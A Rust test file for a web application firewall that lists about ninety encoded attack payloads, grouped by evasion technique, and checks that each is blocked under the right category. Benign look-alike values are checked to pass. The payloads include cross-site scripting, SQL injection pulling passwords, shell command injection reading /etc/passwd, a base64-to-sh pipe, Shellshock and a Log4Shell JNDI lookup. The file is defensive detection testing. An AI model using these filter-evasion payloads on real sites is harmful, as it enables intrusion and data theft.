//! Each known way to hide an attack has a row: the technique, where it stands, what is sent, and the bucket that must fire.

use crate::sent::{Sent, verdict};

/// Technique, what is sent, and how the names of the leaves begin, one of which must have fired.
const ROWS: &[(&str, Sent<'static>, &str)] = &[
    // Percent coding.
    ("percent", Sent::Query("q=%3Cscript%3Ealert(1)%3C/script%3E"), "cross-site-scripting"),
    ("percent, twice", Sent::Query("q=%253Cscript%253Ealert(1)%253C/script%253E"), "cross-site-scripting"),
    ("percent, three times", Sent::Query("q=%25253Cscript%25253Ealert(1)"), "cross-site-scripting"),
    ("percent of a digit", Sent::Query("f=%%32%65%%32%65/%%32%65%%32%65/etc/passwd"), "local-file-access"),
    (
        "percent in a JSON string",
        Sent::Json(r#"{"q": "%3Cscript%3Ealert(1)%3C/script%3E"}"#),
        "cross-site-scripting",
    ),
    ("%u", Sent::Query("q=%u003cscript%u003ealert(1)"), "cross-site-scripting"),
    ("%u, full width", Sent::Query("q=%uff1cscript%uff1ealert(1)"), "cross-site-scripting"),
    ("plus as space", Sent::Query("id=1+or+1=1"), "sql-injection"),
    // Base64.
    ("base64", Sent::Query("q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "cross-site-scripting"),
    (
        "base64, percent in it",
        Sent::Query("q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D"),
        "cross-site-scripting",
    ),
    (
        "base64, no padding",
        Sent::Json(r#"{"q": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"}"#),
        "cross-site-scripting",
    ),
    ("base64, URL-safe", Sent::Query("q=PHN2ZyBvbmxvYWQ9YWxlcnQoJz4-PycpPg"), "cross-site-scripting"),
    (
        "base64, twice",
        Sent::Query("q=UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09"),
        "cross-site-scripting",
    ),
    (
        "base64 of entities",
        Sent::Json(r#"{"q": "Jmx0O3NjcmlwdCZndDthbGVydCgxKQ=="}"#),
        "cross-site-scripting",
    ),
    ("base64 of percent", Sent::Json(r#"{"q": "JTNjc2NyaXB0JTNlYWxlcnQoMSk="}"#), "cross-site-scripting"),
    ("base64 with a NUL", Sent::Json(r#"{"q": "AC4uLy4uLy4uL2V0Yy9wYXNzd2Q="}"#), "local-file-access"),
    (
        "base64 of UTF-16",
        Sent::Json(r#"{"q": "LgAuAC8ALgAuAC8ALgAuAC8AZQB0AGMALwBwAGEAcwBzAHcAZAA="}"#),
        "local-file-access",
    ),
    (
        "base64 behind a name",
        Sent::Json(r#"{"q": "v=1,data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#),
        "cross-site-scripting",
    ),
    (
        "base64 in a data URL",
        Sent::Json(r#"{"q": "see data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}"#),
        "cross-site-scripting",
    ),
    ("base64 in a path", Sent::Path("/img/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/x"), "cross-site-scripting"),
    (
        "base64 as one of several words",
        Sent::Query("q=find+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg+now"),
        "cross-site-scripting",
    ),
    (
        "base64 in a header",
        Sent::Header("X-Data", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        "cross-site-scripting",
    ),
    (
        "base64 in a cookie",
        Sent::Header("Cookie", "a=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        "cross-site-scripting",
    ),
    // Entities.
    ("entities", Sent::Json(r#"{"q": "&lt;script&gt;alert(1)&lt;/script&gt;"}"#), "cross-site-scripting"),
    ("entities, no semicolon", Sent::Json(r#"{"q": "&ltscript&gtalert(1)"}"#), "cross-site-scripting"),
    ("entities, padded", Sent::Json(r#"{"q": "&#0000060script&#x00003e;alert(1)"}"#), "cross-site-scripting"),
    ("entities, twice", Sent::Json(r#"{"q": "&amp;lt;script&amp;gt;alert(1)"}"#), "cross-site-scripting"),
    (
        "entities in a URL",
        Sent::Json(r#"{"q": "<a href=java&Tab;script&colon;alert(1)>x"}"#),
        "cross-site-scripting",
    ),
    // Escapes.
    (r"\x", Sent::Json(r#"{"q": "\\x3cscript\\x3ealert(1)"}"#), "cross-site-scripting"),
    (r"\u", Sent::Json(r#"{"q": "\\u003cscript\\u003ealert(1)"}"#), "cross-site-scripting"),
    (r"\u{}", Sent::Json(r#"{"q": "\\u{3c}script\\u{00003e}alert(1)"}"#), "cross-site-scripting"),
    ("octal", Sent::Json(r#"{"q": "\\74script\\76alert(1) \\074script\\076"}"#), "cross-site-scripting"),
    ("JSON's own escapes", Sent::Json(r#"{"q": "\u003cscript\u003ealert(1)"}"#), "cross-site-scripting"),
    (
        "style sheet's escapes",
        Sent::Json(r#"{"q": "<x style=\"width:\\65 xpression(alert(1))\">"}"#),
        "cross-site-scripting",
    ),
    // Characters that are folded.
    (
        "overlong UTF-8",
        Sent::Path("/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
        "local-file-access",
    ),
    ("full width", Sent::Json(r#"{"q": "＜script＞alert(1)＜/script＞"}"#), "cross-site-scripting"),
    ("full-width quotes", Sent::Query("q=%EF%BC%87%20or%20%EF%BC%871%EF%BC%87=%EF%BC%871"), "sql-injection"),
    ("mathematical letters", Sent::Json(r#"{"q": "1 𝘂𝗻𝗶𝗼𝗻 𝘀𝗲𝗹𝗲𝗰𝘁 password from users"}"#), "sql-injection"),
    ("UTF-7", Sent::Json(r#"{"q": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}"#), "cross-site-scripting"),
    ("UTF-7 of a quote", Sent::Json(r#"{"q": "x+ACc- or 1+AD0-1 --"}"#), "sql-injection"),
    // SQL.
    (
        "comments as spaces",
        Sent::Query("id=1/**/union/**/select/**/password/**/from/**/users"),
        "sql-injection",
    ),
    ("comments in words", Sent::Query("id=1 un/**/ion sel/**/ect password from users"), "sql-injection"),
    ("executable comments", Sent::Query("id=1 /*!50000union*/ /*!50000select*/ 1,2"), "sql-injection"),
    ("line comments as spaces", Sent::Query("id=1%23x%0Aunion%23y%0Aselect%23z%0A1,2"), "sql-injection"),
    ("no spaces at all", Sent::Query("id=1'or(1)=(1)and'x'='x"), "sql-injection"),
    ("mixed case", Sent::Query("id=-1 UnIoN aLl SeLeCt 1,2,3"), "sql-injection"),
    ("concatenation by pipes", Sent::Query("q=x'||(select password from users)||'"), "sql-injection"),
    ("concatenation by plus", Sent::Query("q=x';exec('sel'%2B'ect 1')--"), "sql-injection"),
    ("CHAR()", Sent::Query("q=1 or name=char(97,100,109,105,110)--"), "sql-injection"),
    ("CONCAT()", Sent::Query("q=1 and 1=extractvalue(1,concat(0x7e,version()))"), "sql-injection"),
    ("hexadecimal strings", Sent::Query("q=1 or name=0x61646d696e--"), "sql-injection"),
    ("other spaces", Sent::Query("id=1%a0union%0bselect%0c1,2"), "sql-injection"),
    ("exponents", Sent::Query("id=1e0union select 1,2"), "sql-injection"),
    // Shells.
    ("quotes in words", Sent::Query("h=127.0.0.1;c'a't /e't'c/pas\"s\"wd"), "command-injection"),
    ("backslashes in words", Sent::Query(r"h=127.0.0.1;c\at /et\c/pas\swd"), "command-injection"),
    ("$IFS", Sent::Query("h=127.0.0.1;cat$IFS/etc/hostname"), "command-injection"),
    ("${IFS}", Sent::Query("h=127.0.0.1;cat${IFS}notes.txt"), "command-injection"),
    ("globs", Sent::Query("h=127.0.0.1;/???/c?t /???/p?ss??"), "command-injection"),
    ("braces", Sent::Query("h=127.0.0.1;{cat,notes.txt}"), "command-injection"),
    ("variables", Sent::Query("h=127.0.0.1;a=ca;b=t;$a$b notes.txt"), "command-injection"),
    ("empty expansions", Sent::Query("h=127.0.0.1;c$@at notes.txt"), "command-injection"),
    ("carets", Sent::Query("h=127.0.0.1%26 who^ami"), "command-injection"),
    ("substitution", Sent::Query("h=$(printf 'id')"), "command-injection"),
    (
        "decoded by the shell",
        Sent::Query("h=127.0.0.1;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
        "command-injection",
    ),
    (
        "encoded command",
        Sent::Query("h=1%26powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA=="),
        "command-injection",
    ),
    // Paths.
    ("backslashes", Sent::Query(r"f=..\..\..\windows\win.ini"), "local-file-access"),
    ("doubled dots and slashes", Sent::Query("f=....//....//....//etc/passwd"), "local-file-access"),
    ("dot segments", Sent::Query("f=/etc/./x/../passwd"), "local-file-access"),
    // Places that others forget.
    ("path segment", Sent::Path("/shop/1'%20or%20'1'='1/items"), "sql-injection"),
    ("parameter name", Sent::Query("<script>alert(1)</script>=1"), "cross-site-scripting"),
    ("lone parameter", Sent::Query("<script>alert(1)</script>"), "cross-site-scripting"),
    ("form field's name", Sent::Form("1'or'1'%3D'1=x"), "sql-injection"),
    ("JSON key", Sent::Json(r#"{"<script>alert(1)</script>": 1}"#), "cross-site-scripting"),
    ("deep in JSON", Sent::Json(r#"[[[{"a": [1, {"b": "1' or '1'='1"}]}]]]"#), "sql-injection"),
    ("cookie's name", Sent::Header("Cookie", "<script>alert(1)</script>=1"), "cross-site-scripting"),
    ("cookie", Sent::Header("Cookie", "theme=1' or '1'='1"), "sql-injection"),
    (
        "Referer",
        Sent::Header("Referer", "https://example.org/?q=<script>alert(1)</script>"),
        "cross-site-scripting",
    ),
    (
        "query of the Referer",
        Sent::Header("Referer", "https://example.org/list?id=1+or+1%3D1--"),
        "sql-injection",
    ),
    ("X-Forwarded-For", Sent::Header("X-Forwarded-For", "127.0.0.1' or sleep(5)#"), "sql-injection"),
    (
        "X-Forwarded-Host",
        Sent::Header("X-Forwarded-Host", "x\"><script>alert(1)</script>"),
        "cross-site-scripting",
    ),
    ("User-Agent", Sent::Header("User-Agent", "() { :;}; /bin/cat /etc/passwd"), "command-injection"),
    ("structured header", Sent::Header("Accept-Language", "de'; waitfor delay '0:0:5'--"), "sql-injection"),
    ("any header", Sent::Header("X-Whatever", "${jndi:ldap://203.0.113.5/a}"), "java-injection"),
    ("text as text", Sent::Text("text/plain", "1' or '1'='1"), "sql-injection"),
    (
        "JSON as text",
        Sent::Text("text/plain", r#"{"q": "\u003cscript\u003ealert(1)"}"#),
        "cross-site-scripting",
    ),
];

#[test]
fn every_technique_is_seen_through() {
    let mut wrong = Vec::new();
    for (technique, sent, bucket) in ROWS {
        let verdict = verdict(*sent);
        let leaves: Vec<_> = verdict.leaves().iter().map(waf_shared::catalog::Leaf::name).collect();
        if !verdict.blocks() || !leaves.iter().any(|leaf| leaf.starts_with(bucket)) {
            wrong.push(format!("{technique}: {sent:?}: {leaves:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn honest_values_in_the_same_clothes_pass() {
    for sent in [
        Sent::Query("q=fish+%26+chips+%E2%80%93+50%25+off"),
        Sent::Query(
            "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJPJ0JyaWVuIiwiYWRtaW4iOmZhbHNlfQ.c2lnbmF0dXJlLWJ5dGVz",
        ),
        Sent::Json(
            r#"{"image": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}"#,
        ),
        Sent::Json(r#"{"text": "Grüße aus Köln &amp; Umgebung; C:\\Users\\Ann, 𝒙 + 𝒚"}"#),
        Sent::Header("Authorization", "Basic YW5uOm15IGxvbmcgcGFzc3dvcmQ="),
        Sent::Header("Referer", "https://shop.example.org/search?q=garden+chairs+or+tables&page=2"),
        Sent::Header("Cookie", "_ga=GA1.2.5428161883.1795742985; s=SGVsbG8sIHRoaXMgaXMgYSBub3RlIGZyb20gbWU="),
    ] {
        let verdict = verdict(sent);
        assert!(!verdict.blocks(), "{sent:?}: {:?}", verdict.matches);
    }
}
